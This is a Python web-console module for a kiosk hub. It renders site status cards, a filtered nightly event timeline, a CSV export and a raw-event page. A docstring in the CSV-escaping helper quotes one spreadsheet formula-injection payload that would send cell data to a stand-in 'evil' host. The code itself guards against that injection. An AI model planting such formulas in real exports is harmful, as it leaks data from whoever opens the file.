"""Sites (one card per kiosk), Tonight (the timeline, its filters and CSV), raw events."""

from __future__ import annotations

import csv
import io
import json
import logging
from collections.abc import AsyncIterator
from datetime import datetime
from typing import Any
from urllib.parse import urlencode
from zoneinfo import ZoneInfo

from starlette.requests import Request
from starlette.responses import Response, StreamingResponse
from starlette.routing import BaseRoute, Route

from hub.config import Config
from hub.console.timeline import GROUPS, Line, Range, describe, local_bounds, night_range
from hub.console.timeline import presence_line as presence_text
from hub.errors import RequestError
from hub.web import AppContext
from hub.web.common import ctx, site_param
from hub.web.session import console, require
from hub.web.views import HTML_HEADERS, page, words
from protocol.times import format_time
from protocol.topics import valid_id

log = logging.getLogger(__name__)

PEOPLE = tuple(sorted(GROUPS["people"]))


def tz_of(cfg: Config, site: str | None) -> str:
    section = cfg.site(site) if site else None
    return section.timezone if section else (cfg.sites[0].timezone if cfg.sites else "UTC")


def local_time(cfg: Config, site: str | None, t: float, fmt: str = "%Y-%m-%d %H:%M") -> str:
    return datetime.fromtimestamp(t, ZoneInfo(tz_of(cfg, site))).strftime(fmt)


def card(c: AppContext, site: str, t: Any) -> dict[str, Any]:
    """One site's card (runs on the archive thread)."""
    con = c.console
    assert con is not None
    section = c.cfg.site(site)
    status = c.archive.status(site)
    st = status[0] if status else {}
    chain = c.archive.chain(site)
    since = con.timeline.last_change(site)
    row = c.archive.db.one(
        "SELECT seq, ts, type, order_id, body, hash FROM events WHERE site = ? "  # noqa: S608 - placeholders only
        f"AND type IN ({','.join('?' * len(PEOPLE))}) ORDER BY seq DESC LIMIT 1",
        (site, *PEOPLE),
    )
    last: Line | None = None
    if row is not None:
        orders = con.timeline.orders(site, {row["order_id"]} if row["order_id"] else set())
        last = describe(row, orders, t, tz_of(c.cfg, site))
    alerts = c.alerts.search(site=site, state="active", limit=20)
    return {
        "site": site,
        "name": (section.name if section else "") or site,
        "known": status is not None,
        "online": st.get("online") is True,
        "since": local_time(c.cfg, site, since) if since else "",
        "door": st.get("door", ""),
        "lock": st.get("lock", ""),
        "mode": st.get("mode", ""),
        "clock": st.get("clock", ""),
        "kiosk_time": str(st.get("ts", ""))[:20],
        "orders_ready": st.get("orders_ready", ""),
        "outbox": st.get("outbox", ""),
        "alarms": list(st.get("alarms", []))[:10],
        "last": last,
        "alerts": len(alerts),
        "verified": chain.tail.seq,
        "gap": chain.missing(),
        "broken": chain.break_seq,
    }


async def sites(request: Request) -> Response:
    await require(request)
    c = ctx(request)
    t = words(request)
    cards = await c.runner.call(lambda: [card(c, s, t) for s in c.cfg.site_ids])
    template = "_cards.html" if request.headers.get("hx-request") else "sites.html"
    return page(request, template, {"cards": cards})


#: a cell starting with one of these is a formula to Excel, LibreOffice and Sheets
FORMULA_LEAD = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def spreadsheet_safe(*cells: object) -> list[object]:
    """CSV cells a spreadsheet shows as text, never runs.

    An event's type, an order id, a staff name or a reason can be chosen by
    whoever published the event (``=HYPERLINK("https://evil/?"&A1)``): such a
    cell gets a leading ``'`` (OWASP's advice), so the owner who opens the
    export sees the text and nothing is fetched or run.
    """
    return ["'" + c if isinstance(c, str) and c.startswith(FORMULA_LEAD) else c for c in cells]


def _filters(request: Request, site: str) -> tuple[Range, dict[str, str], dict[str, str]]:
    """The timeline's range and filters from the query; errors by field."""
    c = ctx(request)
    t = words(request)
    tz = tz_of(c.cfg, site)
    q = request.query_params
    values = {k: str(q.get(k, ""))[:64] for k in ("from", "to", "type", "order")}
    errors: dict[str, str] = {}
    rng = night_range(c.clock(), tz)
    if values["from"] or values["to"]:
        today = datetime.fromtimestamp(c.clock(), ZoneInfo(tz)).strftime("%Y-%m-%d")
        try:
            rng = local_bounds(values["from"] or values["to"], values["to"] or today, tz)
        except ValueError:
            errors["from"] = t("tl.bad_dates")
    if values["type"] and values["type"] not in GROUPS:
        errors["type"] = t("tl.bad_type")
    if values["order"] and not valid_id(values["order"]):
        errors["order"] = t("tl.bad_order")
    return rng, values, errors


def _timeline(c: AppContext, site: str, rng: Range, values: dict[str, str], before: Any, t: Any):  # type: ignore[no-untyped-def]
    con = c.console
    assert con is not None
    tz = tz_of(c.cfg, site)
    order_ids: list[str | None] = [None]
    if values["order"]:
        order_ids = [values["order"]]
        section = c.cfg.site(site)
        if (
            section
            and values["order"].isascii()
            and values["order"].isdigit()
            and len(values["order"]) == section.pickup_no_width
        ):
            found = c.archive.db.query(
                "SELECT order_id FROM orders WHERE site = ? AND pickup_no = ? "
                "ORDER BY created_at DESC LIMIT 20",
                (site, values["order"]),
            )
            order_ids = [r["order_id"] for r in found] or order_ids
    rows = []
    for oid in order_ids:
        rows += list(
            con.timeline.rows(
                site, rng, group=values["type"] or None, order_id=oid, before=before, limit=200
            )
        )
    rows.sort(key=lambda r: (r["ts"], r["seq"]), reverse=True)
    rows = rows[:200]
    orders = con.timeline.orders(site, {r["order_id"] for r in rows if r["order_id"]})
    lines = [describe(r, orders, t, tz) for r in rows]
    if not values["type"] and not values["order"] and before is None:
        lines += [
            presence_text(float(p["at"]), bool(p["online"]), t, tz)
            for p in con.timeline.presence(site, rng)
        ]
        lines.sort(key=lambda x: x.at, reverse=True)
    more = None
    if len(rows) == 200:
        more = f"{rows[-1]['ts']},{rows[-1]['seq']}"
    return lines, more


async def timeline(request: Request) -> Response:
    await require(request)
    site = site_param(request)
    c = ctx(request)
    t = words(request)
    rng, values, errors = _filters(request, site)
    before = None
    raw = request.query_params.get("before", "")
    ts, _, seq = raw.partition(",")
    if raw and seq.isascii() and seq.isdigit() and len(ts) == 20 and len(seq) < 17:
        before = (ts, int(seq))
    lines, more = [], None
    if not errors:
        lines, more = await c.runner.call(_timeline, c, site, rng, values, before, t)
    section = c.cfg.site(site)
    data = {
        "site": site,
        "name": (section.name if section else "") or site,
        "lines": lines,
        "more": more,
        "values": values,
        "errors": errors,
        "groups": list(GROUPS),
        "range_text": f"{local_time(c.cfg, site, rng.start)} – {local_time(c.cfg, site, rng.end)}",
        # the filters as typed, encoded (an order box holding "x&type=..." stays one value)
        "csv_query": urlencode({k: v for k, v in values.items() if v}),
    }
    template = "_timeline.html" if request.headers.get("hx-request") else "timeline.html"
    return page(request, template, data, status=422 if errors else 200)


async def timeline_csv(request: Request) -> Response:
    await require(request)
    site = site_param(request)
    c = ctx(request)
    con = console(request)
    t = words(request)
    rng, values, errors = _filters(request, site)
    if errors:
        raise RequestError(next(iter(errors.values())), next(iter(errors)), 422)
    tz = tz_of(c.cfg, site)

    def chunk(before: tuple[str, int] | None) -> tuple[str, tuple[str, int] | None]:
        rows = list(
            con.timeline.rows(
                site,
                rng,
                group=values["type"] or None,
                order_id=values["order"] or None,
                before=before,
                limit=1000,
            )
        )
        orders = con.timeline.orders(site, {r["order_id"] for r in rows if r["order_id"]})
        out = io.StringIO()
        w = csv.writer(out)
        for r in rows:
            line = describe(r, orders, t, tz)
            detail = json.loads(bytes(r["body"])).get("detail", {})
            w.writerow(
                spreadsheet_safe(
                    site,
                    r["seq"],
                    r["ts"],
                    f"{line.day} {line.local}",
                    r["type"],
                    r["order_id"] or "",
                    orders.get(r["order_id"] or "", {}).get("pickup_no", ""),
                    line.text,
                    json.dumps(detail, ensure_ascii=False, sort_keys=True),
                    r["hash"],
                )
            )
        nxt = (str(rows[-1]["ts"]), int(rows[-1]["seq"])) if len(rows) == 1000 else None
        return out.getvalue(), nxt

    async def body() -> AsyncIterator[bytes]:
        header = "site,seq,ts_utc,local_time,type,order_id,pickup_no,text,detail,hash"
        yield ("\ufeff" + header + "\r\n").encode()
        before: tuple[str, int] | None = None
        while True:
            try:
                text, before = await c.runner.call(chunk, before)
            except Exception:  # the status line is gone: say so in the file, never cut it short
                log.exception("the CSV export of %s failed part-way", site)
                yield f"{t('tl.csv_incomplete')}\r\n".encode()
                return
            yield text.encode("utf-8")
            if before is None:
                return

    name = f"{site}-{local_time(c.cfg, site, rng.start, '%Y%m%d')}.csv"
    return StreamingResponse(
        body(),
        media_type="text/csv; charset=utf-8",
        headers={
            "Content-Disposition": f'attachment; filename="{name}"',
            **{k: v for k, v in HTML_HEADERS.items() if k != "Content-Security-Policy"},
        },
    )


async def event(request: Request) -> Response:
    await require(request)
    site = site_param(request)
    raw = str(request.path_params["seq"])
    if not (raw.isascii() and raw.isdigit()) or len(raw) > 16:
        raise RequestError(words(request)("error.http_404"), "seq", 404)
    c = ctx(request)
    con = console(request)
    found = await c.runner.call(con.timeline.event, site, int(raw))
    if found is None:
        raise RequestError(words(request)("tl.no_event"), "seq", 404)
    chain = c.archive.chain(site)
    return page(
        request,
        "event.html",
        {
            "site": site,
            "seq": int(raw),
            "e": found,
            "chain": chain.as_dict(),
            "received": found["received_at"],
            "now": format_time(c.clock()),
        },
    )


def routes() -> list[BaseRoute]:
    return [
        Route("/console/", sites, methods=["GET"]),
        Route("/console/sites", sites, methods=["GET"]),
        Route("/console/sites/{site}/tonight", timeline, methods=["GET"]),
        Route("/console/sites/{site}/tonight.csv", timeline_csv, methods=["GET"]),
        Route("/console/sites/{site}/events/{seq}", event, methods=["GET"]),
    ]
